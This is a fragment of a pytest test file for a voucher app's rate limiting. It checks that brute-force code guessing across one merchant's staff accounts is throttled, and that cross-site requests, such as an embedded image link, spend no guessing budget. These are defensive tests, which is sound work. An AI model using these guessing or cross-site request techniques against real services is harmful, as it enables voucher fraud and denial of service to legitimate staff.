    _shop, staff = _merchant_with_staff(world, "三人小店", "91320509MA1CCCC08X",
                                        ["13612340200", "13612340201", "13612340202", "13612340203"])
    for person in staff[:3]:
        _guess(person, vouchers.FAILURES_PER_MERCHANT // 3, ip=f"100.64.9.{person.id}")
    with pytest.raises(vouchers.RateLimited) as caught:  # a fourth account of the same merchant waits too
        vouchers.find_for_counter(staff[3], "ANYCODE2", "100.64.9.99")
    assert "商户" in caught.value.message


@pytest.mark.app_config(RATELIMIT_ENABLED=True, RATELIMIT_VOUCHER_CODE="5 per minute")
def test_links_from_other_sites_spend_no_budget(app, world, haircut):  # noqa: F811
    voucher = vouchers.create(world.volunteer, haircut)
    db.session.commit()
    browser = login(app.test_client(), owner_of(haircut))
    for i in range(40):  # e.g. <img src=".../r/…"> on a page the staff member opened
        page = browser.get(f"/r/BAD{i:05d}", headers={"Sec-Fetch-Site": "cross-site"})
        assert page.status_code == 200 and "BAD" in page.text
    assert db.session.scalar(sa.select(sa.func.count()).select_from(VoucherAttempt)) == 0
    opened = browser.get(f"/r/{voucher.code}", headers={"Sec-Fetch-Site": "same-origin"})
    assert opened.status_code == 200 and "理发一次" in opened.text  # the deliberate look-up still works
    scanned = browser.get(f"/r/{voucher.code}", headers={"Sec-Fetch-Site": "none"})  # a QR code scanned
    assert scanned.status_code == 200 and "理发一次" in scanned.text
